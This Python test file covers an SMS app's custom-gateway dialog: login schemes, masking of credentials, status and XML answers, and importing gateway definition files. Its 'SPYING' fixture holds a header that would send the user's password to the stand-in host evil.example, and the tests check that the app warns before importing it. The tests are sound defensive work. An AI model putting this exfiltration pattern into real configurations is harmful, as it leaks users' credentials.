"""Known gateways, played on loopback, set up through the window: each way to log in, any status, JSON and XML."""

from __future__ import annotations

import contextlib
import json
from base64 import b64encode
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractButton, QFileDialog, QMessageBox

from smsdesk.providers.custom.definition import OPTION, Answer, Call, Definition, LoginBy, Means, Method
from smsdesk.providers.custom.definition_json import from_json, to_json
from smsdesk.ui.accounts.custom_gateway_dialog import CustomGatewayDialog
from tests.helpers.window.custom_gateway import open_set_up, send_it, shown_in, table, told, try_it
from tests.helpers.wire.wiretap import Wiretap

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.helpers.window.account_dialog import AccountDialogOperator

TOKEN = "demo-password"
BASIC = b64encode(f"demo:{TOKEN}".encode())


@pytest.fixture
def played() -> Iterator[Wiretap]:
    with contextlib.closing(Wiretap()) as running:
        yield running


def describe(
    dialogs: AccountDialogOperator,
    url: str,
    method: Method,
    values: list[tuple[str, str]],
    answers: list[tuple[str, str, str]],
    login_by: LoginBy = LoginBy.VALUES,
    headers: tuple[tuple[str, str], ...] = (),
) -> None:
    """Work the pages as the person with the gateway's document does."""
    open_set_up(dialogs, password=TOKEN)
    dialogs.fill_in(customUrlEdit=url)
    for combo, value in (("customMethodCombo", method), ("customLoginCombo", login_by)):
        dialogs.combo(combo).setCurrentIndex(dialogs.combo(combo).findData(value.value))
    table(dialogs, "customFields").set_rows(values)
    table(dialogs, "customHeaders").set_rows(headers)
    table(dialogs, "customAnswers").set_rows(answers)


async def saved(dialogs: AccountDialogOperator) -> Definition:
    dialogs.press("useGatewayButton")
    dialogs.press("saveAccountButton")
    await dialogs.closed()
    return from_json(dialogs.saved[0].options[OPTION])


async def test_twilio_with_a_basic_login_and_status_201(
    dialogs: AccountDialogOperator, played: Wiretap, tmp_path: Path
) -> None:
    describe(
        dialogs, f"{played.address}/2010-04-01/Accounts/{{user}}/Messages.json", Method.FORM,
        [("From", "{sender}"), ("To", "{to}"), ("Body", "{text}")],
        [('*"sid":*"{id}"*', "accepted", ""), ('*"code":*20003*', "login", "Wrong SID or token.")],
        LoginBy.BASIC,
    )  # fmt: skip
    played.plays(played.answer(b'{"sid": "SM11aa", "status": "queued"}', b"201 Created"))
    try_it(dialogs)
    assert "\nAuthorization: Basic ***\n" in shown_in(dialogs, "trialRequest")
    assert BASIC.decode() not in shown_in(dialogs, "trialRequest")
    assert await send_it(dialogs) == "Read as: accepted, message SM11aa"
    assert shown_in(dialogs, "trialAnswer") == 'HTTP status 201\n{"sid": "SM11aa", "status": "queued"}'
    assert b"\r\nAuthorization: Basic " + BASIC + b"\r\n" in played.requests[0]
    played.plays(played.answer(b'{"code": 20003, "message": "Authenticate"}', b"401 Unauthorized"))
    try_it(dialogs)
    assert await send_it(dialogs) == "Read as: refused. Wrong SID or token."
    assert shown_in(dialogs, "trialAnswer").startswith('HTTP status 401\n{"code": 20003')
    assert (await saved(dialogs)).login_by is LoginBy.BASIC
    assert all(form not in path.read_bytes() for path in tmp_path.iterdir() for form in (TOKEN.encode(), BASIC))
    dialogs.open(dialogs.saved[0])
    dialogs.press("setUpGatewayButton")
    assert dialogs.combo("customLoginCombo").currentData() == "basic"


async def test_vonage_with_a_bearer_login_and_status_202(dialogs: AccountDialogOperator, played: Wiretap) -> None:
    describe(
        dialogs, f"{played.address}/v1/messages", Method.JSON, [("to", "{to}"), ("text", "{text}")],
        [('*"message_uuid":*"{id}"*', "accepted", "")], LoginBy.BEARER,
    )  # fmt: skip
    played.plays(played.answer(b'{"message_uuid":"aaaa-bbbb"}', b"202 Accepted"))
    try_it(dialogs)
    assert "\nAuthorization: Bearer ***\n" in shown_in(dialogs, "trialRequest")
    assert await send_it(dialogs) == "Read as: accepted, message aaaa-bbbb"
    assert f"\r\nAuthorization: Bearer {TOKEN}\r\n".encode() in played.requests[0]
    played.plays(played.answer(b'{"title":"Unauthorized"}', b"401 Unauthorized"))
    try_it(dialogs)
    assert (await send_it(dialogs)).startswith("Read as: refused. The gateway does not let this login in")
    assert shown_in(dialogs, "trialAnswer") == 'HTTP status 401\n{"title":"Unauthorized"}'


async def test_messagebird_with_a_header_of_its_own_and_an_answer_in_xml(
    dialogs: AccountDialogOperator, played: Wiretap
) -> None:
    headers = (("Authorization", "AccessKey {password}"), ("Accept", "application/xml"))
    describe(
        dialogs, f"{played.address}/messages", Method.JSON, [("recipients", '["{to}"]'), ("body", "{text}")],
        [("<?xml*<message><id>{id}</id>*", "accepted", ""), ("*<code>25</code>*", "account", "No balance.")],
        headers=headers,
    )  # fmt: skip
    xml = b'<?xml version="1.0"?>\n<message><id>e8077d80</id><body>Hello</body></message>'
    played.plays(played.answer(xml, b"201 Created", b"text/xml"))
    try_it(dialogs)
    assert "\nAuthorization: AccessKey ***\n" in shown_in(dialogs, "trialRequest")
    assert await send_it(dialogs) == "Read as: accepted, message e8077d80"
    assert shown_in(dialogs, "trialAnswer") == f"HTTP status 201\n{xml.decode()}"
    assert f"\r\nAuthorization: AccessKey {TOKEN}\r\n".encode() in played.requests[0]
    assert b"\r\nAccept: application/xml\r\n" in played.requests[0]
    played.plays(played.answer(b"<errors><code>25</code></errors>", b"422 Unprocessable", b"text/xml"))
    try_it(dialogs)
    assert await send_it(dialogs) == "Read as: refused. No balance."
    assert (await saved(dialogs)).headers == headers


@pytest.mark.parametrize("status", [b"500 Oops", b"302 Found", b"404 Not Found", b"200 OK"])
async def test_the_raw_answer_is_shown_whatever_its_status(
    status: bytes, dialogs: AccountDialogOperator, played: Wiretap
) -> None:
    describe(
        dialogs, f"{played.address}/s", Method.FORM, [("to", "{to}"), ("text", "{text}")], [("OK {id}", "accepted", "")]
    )
    page = b"<html><body>what the gateway says</body></html>"
    played.plays(played.answer(page, status, extra=b"Location: /elsewhere\r\n"))
    try_it(dialogs)
    assert (await send_it(dialogs)).startswith("Not understood, so it may have been sent.")
    assert shown_in(dialogs, "trialAnswer").endswith(f"\n{page.decode()}")
    assert status == b"200 OK" or f"HTTP status {status[:3].decode()}" in shown_in(dialogs, "trialAnswer")


def test_a_header_that_can_not_be_is_said_at_its_field(dialogs: AccountDialogOperator) -> None:
    open_set_up(dialogs)
    dialogs.fill_in(customUrlEdit="https://sms.example.com/send")
    table(dialogs, "customHeaders").set_rows([("Host", "elsewhere.example")])
    dialogs.press("useGatewayButton")
    assert dialogs.problem("customHeaders") == "The header Host is written by smsdesk itself: leave it out."


# --- a file that somebody else wrote

PLAIN = Definition(
    Call(Method.FORM, "/send", (("to", "{to}"), ("text", "{text}"), ("key", "{password}"))),
    (Answer("OK {id}", Means.ACCEPTED),),
    address="https://sms.example.com",
)
SPYING = replace(PLAIN, headers=(("X-Report-To", "https://evil.example/?k={password}"),))


def open_file(dialogs: AccountDialogOperator, path: Path, definition: Definition) -> None:
    path.write_text(to_json(definition), encoding="utf-8")
    dialogs.press("importGatewayButton")
    chooser = dialogs.find(QFileDialog, "gatewayFileDialog")
    chooser.fileSelected.emit(str(path))
    chooser.reject()
    chooser.setObjectName("")


def box(dialogs: AccountDialogOperator) -> QMessageBox | None:
    return dialogs.dialog.findChild(QMessageBox, "passwordHostsBox")


async def test_a_file_that_would_send_the_password_elsewhere_is_shown_before_it_is_used(
    dialogs: AccountDialogOperator, tmp_path: Path
) -> None:
    open_set_up(dialogs)
    before = table(dialogs, "customFields").rows()
    open_file(dialogs, tmp_path / "spying.json", SPYING)
    await dialogs.until(lambda: box(dialogs))
    asked = box(dialogs)
    assert asked is not None
    assert asked.text() == "This file would have your password sent to evil.example."
    assert "The account's gateway is sms.example.com." in asked.informativeText()
    assert asked.defaultButton() is dialogs.find(QAbstractButton, "cancelImportButton")
    QTest.keyClick(asked, Qt.Key.Key_Escape)
    assert table(dialogs, "customFields").rows() == before
    assert table(dialogs, "customHeaders").rows() == []
    assert told(dialogs) == ""
    await dialogs.until(lambda: box(dialogs) is None)
    open_file(dialogs, tmp_path / "spying.json", SPYING)
    await dialogs.until(lambda: box(dialogs))
    dialogs.press("importAllTheSameButton")
    assert table(dialogs, "customHeaders").rows() == list(SPYING.headers)
    assert "Imported" in told(dialogs)


async def test_a_file_for_another_host_is_shown_where_the_account_has_one(
    dialogs: AccountDialogOperator, tmp_path: Path
) -> None:
    file = tmp_path / "other.json"
    open_set_up(dialogs)
    open_file(dialogs, file, PLAIN)
    await dialogs.until(lambda: "Imported" in told(dialogs))
    dialogs.press("useGatewayButton")
    assert dialogs.edit("gatewayAddressEdit").text() == "https://sms.example.com"
    await dialogs.until(lambda: not dialogs.dialog.findChildren(CustomGatewayDialog))
    dialogs.press("setUpGatewayButton")
    open_file(dialogs, file, replace(PLAIN, address="https://evil.example"))
    await dialogs.until(lambda: box(dialogs))
    asked = box(dialogs)
    assert asked is not None
    assert asked.text() == "This file would have your password sent to evil.example."
    dialogs.press("cancelImportButton")
    assert dialogs.edit("customUrlEdit").text() == "https://sms.example.com/send"


def test_a_description_of_an_earlier_version_still_loads() -> None:
    earlier = json.loads(to_json(PLAIN))
    assert earlier["version"] == 1
    assert from_json(json.dumps(earlier)) == PLAIN
